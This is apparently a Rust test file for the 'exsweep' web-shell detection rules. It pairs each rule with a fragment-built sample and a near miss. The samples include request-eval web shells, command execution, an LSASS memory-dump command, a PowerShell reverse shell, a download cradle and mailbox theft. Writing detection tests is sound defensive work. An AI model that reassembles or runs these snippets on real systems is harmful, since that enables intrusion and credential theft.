//! Every built-in rule against a sample it must match and a near miss it must not.
//! Samples are assembled here from fragments (keywords split across pieces), so no
//! working web shell sits in this file in clear; each near miss keeps the rule's
//! surroundings and drops the one trait the rule is about. A second test holds every
//! rule to its metadata contract (`rules/README.md`).

use exsweep_model::Reference;
use exsweep_rules::{builtin_rules, RuleSet};
use std::collections::HashSet;
use std::time::Duration;

/// Joins fragments into a sample.
fn j(parts: &[&str]) -> Vec<u8> {
    parts.concat().into_bytes()
}

/// A C# page with `code` in its server script block.
fn page(code: &str) -> Vec<u8> {
    format!("<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n{code}\n</script>\n<html><body>x</body></html>\n").into_bytes()
}

/// A generic handler with `code` in `ProcessRequest`.
fn handler(code: &str) -> Vec<u8> {
    format!(
        "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System; using System.Web;\npublic class H : IHttpHandler {{\n public void ProcessRequest(HttpContext context) {{\n{code}\n }}\n public bool IsReusable {{ get {{ return false; }} }}\n}}\n"
    )
    .into_bytes()
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn bytes(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

/// (rule identifier, must match, must not match).
fn cases() -> Vec<(&'static str, Vec<u8>, Vec<u8>)> {
    let letters = |n: usize| -> String {
        (b'A'..b'A' + n as u8)
            .map(|c| format!("case \"{}\": {{ R += Z1; break; }}\n", c as char))
            .collect()
    };
    let customize = |n: usize| {
        handler(&format!(
            "String Z = context.Request.Form[\"z\"]; String Z1 = context.Request.Form[\"Z1\"]; String R = \"\";\nString[] c = Directory.GetLogicalDrives(); DirectoryInfo m = new DirectoryInfo(Z1);\nswitch (Z) {{\n{}}}",
            letters(n)
        ))
    };
    vec![
        (
            "exsweep_chopper_jscript_eval",
            j(&["<%@ Page Language=\"Jscript\"%><%ev", "al(Request.Item[\"k\"],\"uns", "afe\");%>"]),
            j(&["<%@ Page Language=\"C#\"%><html><script>var o = ev", "al('(' + json + ')');</script></html>"]),
        ),
        (
            "exsweep_chopper_eval_request_unsafe",
            j(&["GIF89a\n<%ev", "al(Request.Item[\"k\"],\"uns", "afe\");%>"]),
            j(&["<script>var o = ev", "al(request.responseText);</script>"]),
        ),
        ("exsweep_chopper_customize_server", customize(12), customize(4)),
        (
            "exsweep_webadmin2y_loader_page",
            j(&["<script language=\"C#\" runat=\"server\">\nWebAdmin2Y.x.y a = new WebAdmin", "2Y.x.y(\"0123456789abcdef\");\n</script>"]),
            j(&["<script language=\"C#\" runat=\"server\">\nvar a = new WebAdmin", "2Y.x.y(settings);\n</script>"]),
        ),
        (
            "exsweep_asp_execute_request",
            j(&["<%ex", "ecute request(\"k\")%>"]),
            j(&["<%# Ev", "al(\"Title\") %> <% Response.Write(Request(\"page\")) %>"]),
        ),
        (
            "exsweep_asp_execute_request",
            j(&["<%ev", "al_r(Request(\"k\"))%>"]),
            j(&["<% x = ev", "al_result(Request(\"k\")) %>"]),
        ),
        (
            "exsweep_asp_indirect_execute",
            j(&["<% f = \"ex\" & \"ecu", "te\" : x = request(\"k\") %>"]),
            j(&["<% f = \"ex\" & \"ample\" : x = request(\"k\") %>"]),
        ),
        (
            "exsweep_asp_script_encoded",
            j(&["<%@ LANGUAGE = VBScript.Enc", "ode %>\n<%#@~^CAAAAA==x@#@&AAAAAA==^#~@%>"]),
            j(&["<%@ LANGUAGE = VBScript %>\n<% Response.Write \"hello\" %>"]),
        ),
        (
            "exsweep_asp_fso_writer",
            j(&["<% Set f = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet t = f.CreateTextFile(Server.MapPath(request(\"p\")))\nt.Write request(\"c\") %>"]),
            // A CMS writing a file it names itself, with form data in it.
            j(&["<% Set f = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet t = f.CreateTextFile(Server.MapPath(\"cache/\" & id & \".htm\"))\nt.Write request.form(\"body\") %>"]),
        ),
        (
            "exsweep_asp_chr_chain",
            j(&["<% x = chr(101)&chr(118)&chr(97)&chr(108)&chr(40)&chr(114)&chr(41) %>"]),
            j(&["<% x = chr(13)&chr(10) %>"]),
        ),
        (
            "exsweep_asp_shell_object",
            j(&["<object runat=server id=o scope=page classid=\"clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\"></object>\n<% x = 1 %>"]),
            j(&["<object runat=server id=o scope=page classid=\"clsid:F935DC22-1CF0-11D0-ADB9-00C04FD58A0B\"></object>\n<% x = 1 %>"]),
        ),
        (
            "exsweep_asp_execute_variable",
            j(&["<%\nxx = request(\"xx\")\nex", "ecute xx\n%>"]),
            j(&["<%\nxx = request(\"xx\")\nconn.Execute sql\n%>"]),
        ),
        (
            "exsweep_asp_password_gate",
            j(&["<% if request(\"pass\")=\"letmein!\" then session(\"pw\")=\"go\" %>"]),
            j(&["<% if request(\"action\")=\"login\" then call ShowLogin() %>"]),
        ),
        (
            "exsweep_asp_progid_in_pieces",
            j(&["<% Set fso = Server.CreateObject(\"scripting.\"&\"File\"&\"System\"&\"Obj", "ect\") %>"]),
            j(&["<% Set s = Server.CreateObject(\"ado\"&\"db.str\"&\"eam\") %>"]),
        ),
        (
            "exsweep_asp_progid_in_pieces",
            j(&["<%\nCONST_O = \"Scri\"&\"pting.Fil\"&\"eSyst\"&\"emObject\"\nSet f = Server.Create", "Object(CONST_O)\n%>"]),
            j(&["<%\nCONST_O = \"ADO\"&\"DB.Str\"&\"eam\"\nSet f = Server.Create", "Object(CONST_O)\n%>"]),
        ),
        (
            "exsweep_asp_execute_self_decoded",
            j(&["<%\nFunction d(s):d=Mid(k,s,1):End Function:k=\"abcdef\"\nex", "ecute(d(1)&d(2)&d(3)&d(4)&d(5)&d(6)&d(1)&d(2)&d(3))\n%>"]),
            j(&["<%\nFunction d(s):d=Mid(k,s,1):End Function:k=\"abcdef\"\nResponse.Write(d(1)&d(2)&d(3)&d(4)&d(5)&d(6)&d(1)&d(2)&d(3))\n%>"]),
        ),
        (
            "exsweep_asp_execute_self_decoded",
            j(&["<%\nex", "ecute(UnEnc(hu))\nFunction UnEnc(t)\nfor i = 1 to len(t) : a = a & Chr(Asc(Mid(t, i, 1)) - 1) : next\nUnEnc = a\nEnd Function\n%>"]),
            j(&["<%\nResponse.Write(UnEnc(hu))\nFunction UnEnc(t)\nfor i = 1 to len(t) : a = a & Chr(Asc(Mid(t, i, 1)) - 1) : next\nUnEnc = a\nEnd Function\n%>"]),
        ),
        (
            "exsweep_asp_execute_self_decoded",
            j(&["<%\nFunction ttg(c)\nfor i = 1 to len(c) : m = mid(c, i, 1) : d = instr(k, m) : t = m & t : next\nttg = t\nEnd Function\npvr = ttg(pvr) : ex", "ecute pvr\n%>"]),
            j(&["<%\nFunction ttg(c)\nfor i = 1 to len(c) : m = mid(c, i, 1) : d = instr(k, m) : t = m & t : next\nttg = t\nEnd Function\npvr = ttg(request(\"p\")) : ex", "ecute pvr\n%>"]),
        ),
        (
            "exsweep_defacement_banner",
            j(&["<html><head><title>Hac", "ked By Some Crew</title></head><body>x</body></html>"]),
            j(&["<html><head><title>How to tell whether your site was hac", "ked</title></head><body>Sites hac", "ked by bots ...</body></html>"]),
        ),
        (
            "exsweep_defacement_banner",
            j(&["<center><b>Hac", "ked! Own", "ed by Some Team!</b></center>"]),
            j(&["<center><b>Owned</b> by the city council</center>"]),
        ),
        (
            "exsweep_asp_request_relay",
            j(&["<%\np = request.form(\"p\")\nSet h = Server.CreateObject(\"Microsoft.XML", "HTTP\")\nh.Open \"GET\", \"\"&p&\"\", false\nh.Send\nk = server.htmlEncode(h.ResponseText)\nresponse.write k\n%>"]),
            j(&["<%\nw = request(\"wd\")\nSet h = Server.CreateObject(\"Microsoft.XML", "HTTP\")\nh.Open \"GET\", url, false\nh.Send\nrank = strcut(BytesToBstr(h.ResponseBody), \"<b>\", \"</b>\")\nresponse.write rank\n%>"]),
        ),
        (
            "exsweep_asp_include_non_script",
            j(&["<!--#incl", "ude file=\"images/logo.txt\"-->"]),
            j(&["<!--#incl", "ude file=\"inc/config.asp\"-->"]),
        ),
        (
            "exsweep_php_upload_as_named",
            j(&["<?php $t = $_FILES['f']['tmp_name']; $n = $_FILES['f']['na", "me'];\nmove_uploaded_", "file($t, $n); ?>"]),
            j(&["<?php $t = $_FILES['f']['tmp_name'];\nmove_uploaded_", "file($t, '/var/up/' . uniqid() . '.png'); ?>"]),
        ),
        (
            "exsweep_asp_file_manager",
            j(&["<% Set fso = CreateObject(\"Scripting.FileSystemObject\")\nSet d = fso.GetFolder(request(\"p\"))\nfor each f in d.SubFolders : next\nfso.DeleteFile request(\"f\") %>"]),
            j(&["<% Set fso = CreateObject(\"Scripting.FileSystemObject\")\nSet d = fso.GetFolder(Server.MapPath(\"upload\"))\nfor each f in d.SubFolders : next\nfso.DeleteFile Server.MapPath(\"upload/old.tmp\") %>"]),
        ),
        (
            "exsweep_sql_xp_cmdshell",
            j(&["<%\nc = Request.Form(\"cmd\")\nconn.Execute(\"exec master..xp_cmd", "shell '\" & c & \"'\")\n%>"]),
            j(&["<%\n' xp_cmd", "shell is disabled on this server\nSet rs = conn.Execute(\"select 1\")\n%>"]),
        ),
        (
            "exsweep_servu_local_exploit",
            j(&["<%\nnewuser = \"-SETUSER", "SETUP\" & vbCrLf\nmt = \"SITE MAINTE", "NANCE\" & vbCrLf\nc = \"site ex", "ec \" & cmd\n%>"]),
            j(&["<%\n' Serv-U admin notes: SITE MAINTE", "NANCE opens the console\nport = 43958\n%>"]),
        ),
        (
            "exsweep_dotnet_process_with_output",
            page("void Page_Load() { var psi = new ProcessStartInfo(\"ipconfig\"); psi.RedirectStandardOutput = true; Response.Write(Process.Start(psi).StandardOutput.ReadToEnd()); }"),
            j(&["class Tool { static void Main() { var psi = new ProcessStartInfo(\"ipconfig\"); psi.RedirectStandardOutput = true; } }"]),
        ),
        (
            "exsweep_dotnet_shell_from_request",
            page(&["void Page_Load() { Process.Start(\"cm", "d.exe\", \"/c \" + Request.Form[\"c\"]); }"].concat()),
            page("void Page_Load() { Process.Start(\"report.exe\", Request.Form[\"id\"]); }"),
        ),
        (
            "exsweep_wscript_shell_exec",
            j(&["<%=CreateObject(\"WScr", "ipt.Shell\").exec(Request(\"a\")).StdOut.ReadAll%>"]),
            j(&["<% Set n = CreateObject(\"WScript.Network\") : n.Run %>"]),
        ),
        (
            "exsweep_compiled_jscript_shell",
            bytes(&[b"MZ\x90\x00", &[0; 64], b"JScriptEvaluate\0", &utf16("/owa/auth/x.aspx")]),
            bytes(&[b"//", &[0; 64], b"JScriptEvaluate\0", &utf16("/owa/auth/x.aspx")]),
        ),
        (
            "exsweep_compiled_shell_page",
            bytes(&[b"MZ\x90\x00", &[0; 64], b"System.Web.UI.Page\0ASP.\0App_Web_ab12cd34\0set_RedirectStandardOutput\0ProcessStartInfo\0"]),
            bytes(&[b"MZ\x90\x00", &[0; 64], b"System.Web.UI.Page\0ASP.\0App_Web_ab12cd34\0ProcessStartInfo\0"]),
        ),
        (
            "exsweep_lsass_dump_command",
            j(&["rundll32 C:\\Windows\\System32\\comsvcs.dll, Mini", "Dump 624 C:\\temp\\l.dmp full"]),
            j(&["regsvr32 /s comsvcs.dll"]),
        ),
        (
            "exsweep_lsass_minidump",
            bytes(&[b"MDMP\x93\xa7\x00\x00", &[0; 64], &utf16("C:\\Windows\\System32\\lsasrv.dll"), &utf16("C:\\Windows\\System32\\wdigest.DLL")]),
            bytes(&[b"MDMP\x93\xa7\x00\x00", &[0; 64], &utf16("C:\\Windows\\System32\\notepad.exe"), &utf16("C:\\Windows\\System32\\wdigest.DLL")]),
        ),
        (
            "exsweep_upload_to_caller_path",
            j(&["<%if (Request.Files.Count!=0) { Request.Files[0].Sa", "veAs(Server.MapPath(Request[\"f\"])); }%>"]),
            j(&["<%if (Request.Files.Count!=0) { Request.Files[0].Sa", "veAs(Server.MapPath(\"~/uploads/\") + Guid.NewGuid()); }%>", &"<p>gallery</p>\n".repeat(300)]),
        ),
        (
            "exsweep_small_upload_page",
            j(&["<% HttpPostedFile f = Request.Files[0]; f.Sa", "veAs(@\"C:\\x\\\" + f.FileName); %>"]),
            j(&["<% HttpPostedFile f = Request.Files[0]; f.Sa", "veAs(@\"C:\\x\\\" + f.FileName); %>", &"<p>gallery</p>\n".repeat(300)]),
        ),
        (
            "exsweep_write_request_to_file",
            j(&["<script runat=\"server\">dim w as new Stream", "Writer(request.form(\"path\"), true)</script>"]),
            page("void Log() { var w = new StreamWriter(Server.MapPath(\"~/log.txt\")); w.Write(DateTime.Now); }"),
        ),
        (
            "exsweep_writes_server_page",
            handler("StreamWriter f = File.CreateText(context.Server.MapPath(\"root.aspx\")); f.Write(\"x\");"),
            handler("StreamWriter f = File.CreateText(context.Server.MapPath(\"root.txt\")); f.Write(\"x\");"),
        ),
        (
            "exsweep_codedom_compile_page",
            page("void Page_Load() { var r = new CSharpCodeProvider().CompileAssemblyFromSource(new CompilerParameters(), Request.Form[\"c\"]); }"),
            j(&["namespace Build { class T { void Run() { new CSharpCodeProvider().CompileAssemblyFromSource(p, src); } } }"]),
        ),
        (
            "exsweep_jscript_engine_from_dotnet",
            page("void Page_Load() { Microsoft.JScript.Eval.JScriptEvaluate(Request.Form[\"c\"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine()); }"),
            bytes(&[b"MZ\x90\x00", &[0; 64], b"<%\0JScriptEvaluate\0VsaEngine\0"]),
        ),
        (
            "exsweep_xslt_script_execution",
            j(&["<xsl:stylesheet><msxsl:script language=\"JScript\" implements-prefix=\"u\">function f(){ ev", "al(System.Web.HttpContext.Current.Request.Item['a']); }</msxsl:script></xsl:stylesheet>"]),
            j(&["<xsl:stylesheet><msxsl:script language=\"C#\" implements-prefix=\"u\">public string Upper(string s){ return s.ToUpper(); }</msxsl:script></xsl:stylesheet>"]),
        ),
        (
            "exsweep_script_control_execute",
            j(&["<% set ms = server.CreateObject(\"MSScriptControl.Script", "Control.1\")\nms.ExecuteStatement(\"x\") %>"]),
            j(&["<% ' the report used MSScriptControl.ScriptControl once %>"]),
        ),
        (
            "exsweep_base64_hidden_request",
            // "UmVxdWVzdC5JdGVtWyJ6Il0=" is base64 for a request read.
            j(&["<% popup(System.Convert.FromBase64String(\"UmVxdWVzdC5JdGVtWyJ6Il0=\")); %>"]),
            j(&["<% img(System.Convert.FromBase64String(\"aGVsbG8gd29ybGQgaW1hZ2U=\")); %>"]),
        ),
        (
            "exsweep_assembly_load_from_request",
            page("void Page_Load() { System.Reflection.Assembly.Lo\x61d(Request.BinaryRead(Request.ContentLength)).CreateInstance(\"c\"); }"),
            page("void Page_Load() { System.Reflection.Assembly.Load(\"System.Web\"); }"),
        ),
        (
            "exsweep_assembly_load_from_request",
            page("void Page_Load() { var b = new AesManaged().CreateDecryptor(k, k).TransformFinalBlock(d, 0, d.Length); System.AppDomain.CurrentDomain.Lo\x61d(b).CreateInstance(\"K\"); }"),
            page("void Page_Load() { System.AppDomain.CurrentDomain.GetAssemblies(); }"),
        ),
        (
            "exsweep_php_function_from_text",
            j(&["<?php $k = 'wolf' . 'shell'; $f = implode('', ['cr', 'eate_', 'function']); $g = @$f('', $_POST[$k]); @$g(); ?>"]),
            j(&["<?php $f = create_function('$a', 'return $a * 2;'); echo $f($_GET['n']); ?>"]),
        ),
        (
            "exsweep_php_godzilla_xor",
            j(&["<?php @session_start(); function e($D, $K) { for ($i = 0; $i < strlen($D); $i++) { $c = $K[($i + 1) & 15]; $D[$i] = $D[$i] ^ $c; } return $D; } ?>"]),
            j(&["<?php session_start(); function mask($D, $K) { for ($i = 0; $i < strlen($D); $i++) { $D[$i] = chr(ord($D[$i]) & 15); } return $D; } ?>"]),
        ),
        (
            "exsweep_reflected_byte_array_load",
            page("void A() { var m = typeof(System.Reflection.Assembly).GetMethod(new string(new char[] {'d','a','o','L'}.Reverse().ToArray()), new System.Type[] { typeof(byte[]) }); m.Invoke(null, new object[] { Request.BinaryRead(Request.ContentLength) }); }"),
            page("void A() { var m = typeof(Codec).GetMethod(\"Decode\", new Type[] { typeof(string) }); m.Invoke(null, new object[] { Request[\"q\"] }); }"),
        ),
        (
            "exsweep_session_cached_payload",
            page("Session[\"payload\"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod(\"Load\").Invoke(null, new object[] { new RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(d, 0, d.Length) });"),
            page("Session[\"user\"] = name; var d = new RijndaelManaged().CreateDecryptor(k, k);"),
        ),
        (
            "exsweep_oab_virtual_directory_dump_shell",
            j(&["OfflineAddressBooks : \\Default\nInternalAuthenticationMethods : {WindowsIntegrated}\nExtendedProtectionTokenChecking : None\nExternalUrl : http://f/<script language=\"JScript\" run", "at=\"server\">function Page_Load(){}</script>\n"]),
            j(&["OfflineAddressBooks : \\Default\nInternalAuthenticationMethods : {WindowsIntegrated}\nExtendedProtectionTokenChecking : None\nExternalUrl : https://mail.example.org/OAB\n"]),
        ),
        (
            "exsweep_exported_file_with_script",
            bytes(&[b"!BDN\x00\x00", &[0; 64], b"<script language=\"JScript\" runat=\"server\">"]),
            bytes(&[b"!BDN\x00\x00", &[0; 64], b"hello, this is mail"]),
        ),
        (
            "exsweep_server_manager_page",
            page("void A() { Directory.GetLogicalDrives(); File.Delete(p); new ProcessStartInfo(\"x\"); Registry.LocalMachine.OpenSubKey(k); }"),
            page("void A() { Directory.GetLogicalDrives(); File.Delete(p); new SqlConnection(c); }"),
        ),
        (
            "exsweep_file_browser_page",
            page("void A() { var d = new DirectoryInfo(Request[\"d\"]); foreach (var f in d.GetFiles()) File.Delete(f.FullName); }"),
            page("void A() { var d = new DirectoryInfo(Server.MapPath(\"~/images\")); foreach (var f in d.GetFiles()) File.Delete(f.FullName); }"),
        ),
        (
            "exsweep_sql_console_page",
            page("void A() { var c = new SqlConnection(Request[\"c\"]); var q = new SqlCommand(Request[\"q\"], c); q.ExecuteReader(); }"),
            page("void A() { var c = new SqlConnection(ConfigurationManager.ConnectionStrings[\"db\"].ConnectionString); var q = new SqlCommand(\"select 1\", c); q.ExecuteReader(); }"),
        ),
        (
            "exsweep_typed_path_file_access",
            page("void Save_Click() { var w = new StreamWriter(this.txtPath.Text, true); w.Write(txtBody.Text); }"),
            page("void Save_Click() { var w = new StreamWriter(Server.MapPath(\"~/notes.txt\"), true); w.Write(txtBody.Text); }"),
        ),
        (
            "exsweep_registry_browser_page",
            page("RegistryKey Root(string h) { if (h == \"1\") return Registry.LocalMachine; if (h == \"2\") return Registry.CurrentUser; return Registry.Users; } void A() { Root(Request[\"h\"]).OpenSubKey(Request[\"k\"]); }"),
            page("void A() { Registry.LocalMachine.OpenSubKey(\"SOFTWARE\\\\Vendor\"); }"),
        ),
        (
            "exsweep_packet_sniffer_page",
            page("void A() { var s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP); s.IOControl(IOControlCode.ReceiveAll, on, off); }"),
            page("void A() { var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Connect(ep); }"),
        ),
        (
            "exsweep_jsp_exec_request",
            j(&["<% Runtime.getRuntime().ex", "ec(request.getParameter(\"c\")); %>"]),
            j(&["<% out.println(request.getParameter(\"name\")); %>"]),
        ),
        (
            "exsweep_jsp_class_loader_shell",
            j(&["<%@page import=\"javax.crypto.*\"%><% Cipher c = Cipher.getInstance(\"AES\"); new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))); %>"]),
            j(&["<%@page import=\"java.util.*\"%><% new U(this.getClass().getClassLoader()).g(request.getReader().readLine()); %>"]),
        ),
        (
            "exsweep_php_eval_request",
            j(&["<?php @ev", "al($_POST['k']); ?>"]),
            j(&["<?php echo htmlspecialchars($_POST['k']); ?>"]),
        ),
        (
            "exsweep_php_packed_eval",
            j(&["<?php ev", "al(base64_decode('ZWNobyAxOw==')); ?>"]),
            j(&["<?php echo base64_decode('ZWNobyAxOw=='); ?>"]),
        ),
        (
            "exsweep_virtual_path_provider_injection",
            page("void Page_Load() { HostingEnvironment.RegisterVirtualPathProvider(new P()); } class P : VirtualPathProvider { }"),
            j(&["public static class AppStart { public static void Init() { HostingEnvironment.RegisterVirtualPathProvider(new EmbeddedProvider()); } } class EmbeddedProvider : VirtualPathProvider { }"]),
        ),
        (
            "exsweep_route_or_filter_injection",
            page("void Page_Load() { RouteTable.Routes.Add(new Route(\"x/{*p}\", new H())); }"),
            j(&["<%@ Application Language=\"C#\" %>\n<script runat=\"server\">void Application_Start() { RouteTable.Routes.Add(new Route(\"x/{*p}\", new H())); }</script>"]),
        ),
        (
            "exsweep_httplistener_backdoor",
            j(&["$l = New-Object System.Net.HttpListener; $l.Prefixes.Add('http://+:80/x/'); $l.Start(); $c = $l.GetContext(); i", "ex $c.Request.QueryString['c']"]),
            j(&["$l = New-Object System.Net.HttpListener; $l.Prefixes.Add('http://+:8080/metrics/'); $l.Start(); $c = $l.GetContext(); $c.Response.Close()"]),
        ),
        (
            "exsweep_powershell_reverse_shell",
            j(&["$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1',443); $s = $c.GetStream(); i", "ex $d"]),
            j(&["$c = New-Object System.Net.Sockets.TCPClient('mail',25); $c.Close()"]),
        ),
        (
            "exsweep_powershell_download_cradle",
            j(&["IE", "X (New-Object Net.WebClient).DownloadString('http://x/a.ps1')"]),
            j(&["(New-Object Net.WebClient).DownloadFile('http://x/a.zip','a.zip')"]),
        ),
        (
            "exsweep_exchange_mailbox_theft_script",
            j(&["Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn\nNew-Mailbox", "ExportRequest -Mailbox ceo -FilePath \\\\x\\c$\\a.pst"]),
            j(&["Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn\nGet-Mailbox -ResultSize 10"]),
        ),
        (
            "exsweep_socket_tunnel_page",
            handler("String target = context.Request.QueryString.Get(\"target\"); IPEndPoint ep = new IPEndPoint(IPAddress.Parse(target), 22); Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Connect(ep);"),
            j(&["<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H { void Check() { IPEndPoint ep = new IPEndPoint(IPAddress.Parse(\"10.0.0.5\"), 25); Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Connect(ep); } }"]),
        ),
        (
            "exsweep_socket_tunnel_page",
            handler("var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Connect(context.Request.Headers[\"X-Host\"], 3389);"),
            j(&["<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H { void Check() { var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Connect(\"mail.example.org\", 25); } }"]),
        ),
        (
            "exsweep_socket_tunnel_page",
            handler("var c = new System.Net.Sockets.TcpClient(context.Request.Form[\"h\"], 22); var n = c.GetStream();"),
            j(&["<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H { void Check() { var c = new TcpClient(\"mail.example.org\", 25); var n = c.GetStream(); n.ReadByte(); } }"]),
        ),
        (
            "exsweep_tunnel_session_socket",
            handler("if (cmd == \"CONNECT\") { Session[\"socket\"] = sender; } else if (cmd == \"READ\") { }"),
            handler("if (cmd == \"CONNECT\") { Session[\"socket\"] = sender; }"),
        ),
    ]
}

/// The built-in rules `data` matches.
fn matching(set: &RuleSet, data: &[u8]) -> HashSet<String> {
    let mut scanner = set.scanner(Duration::from_secs(5));
    scanner
        .scan(r"C:\Samples\sample.aspx", data, String::new)
        .expect("scans")
        .into_iter()
        .map(|hit| hit.identifier)
        .collect()
}

#[test]
fn every_rule_matches_its_sample_and_not_its_near_miss() {
    let set = RuleSet::build(&[]);
    let cases = cases();
    let mut failures = Vec::new();
    for (rule, sample, near_miss) in &cases {
        if !matching(&set, sample).contains(*rule) {
            failures.push(format!("{rule} does not match its sample"));
        }
        if matching(&set, near_miss).contains(*rule) {
            failures.push(format!("{rule} matches its near miss"));
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
    let tested: HashSet<&str> = cases.iter().map(|(rule, _, _)| *rule).collect();
    let untested: Vec<String> = builtin_rules()
        .into_iter()
        .map(|r| r.identifier)
        .filter(|r| !tested.contains(r.as_str()))
        .collect();
    assert!(
        untested.is_empty(),
        "rules without a test case: {untested:?}"
    );
}

#[test]
fn a_utf16_page_is_scanned_as_its_text() {
    let set = RuleSet::build(&[]);
    let text = String::from_utf8(cases()[0].1.clone()).unwrap();
    let mut page = vec![0xFF, 0xFE];
    page.extend(utf16(&text));
    assert!(matching(&set, &page).contains("exsweep_chopper_jscript_eval"));
    let mut big_endian = vec![0xFE, 0xFF];
    big_endian.extend(text.encode_utf16().flat_map(u16::to_be_bytes));
    assert!(matching(&set, &big_endian).contains("exsweep_chopper_jscript_eval"));
}

#[test]
fn a_script_encoded_page_is_scanned_as_its_script() {
    let set = RuleSet::build(&[]);
    let script = "Set s = CreateObject(\"WScript.Shell\")\r\nResponse.Write s.Exec(\"cmd /c \" & Request(\"c\")).StdOut.ReadAll()";
    let mut page = b"<%@ Language=VBScript.Encode %><%".to_vec();
    page.extend(exsweep_rules::encode_script(script.as_bytes()));
    page.extend_from_slice(b"%>");
    let plain = format!("<%@ Language=VBScript %><%{script}%>");
    let in_plain = matching(&set, plain.as_bytes());
    assert!(!in_plain.is_empty(), "the plain page matches nothing");
    let in_encoded = matching(&set, &page);
    for rule in &in_plain {
        assert!(
            in_encoded.contains(rule),
            "{rule} missed in the encoded page: {in_encoded:?}"
        );
    }
}

#[test]
fn every_rule_carries_its_metadata() {
    let rules = builtin_rules();
    assert!(rules.len() >= 40, "only {} built-in rules", rules.len());
    let mut ids = HashSet::new();
    for rule in &rules {
        let name = &rule.identifier;
        assert!(
            rule.id.starts_with("EXR-") && ids.insert(rule.id.clone()),
            "{name}: id {:?} missing or reused",
            rule.id
        );
        assert!(rule.description.len() > 30, "{name}: no description");
        assert!(!rule.family.is_empty(), "{name}: no family");
        assert!(
            rule.references
                .iter()
                .any(|r| matches!(r, Reference::Url(u) if u.starts_with("https://"))),
            "{name}: no reference URL"
        );
        assert!(
            rule.references
                .iter()
                .any(|r| matches!(r, Reference::Author(a) if a == "exsweep")),
            "{name}: author is not exsweep"
        );
        assert!(
            rule.references
                .iter()
                .any(|r| matches!(r, Reference::Attack(_))),
            "{name}: no ATT&CK technique"
        );
    }
}
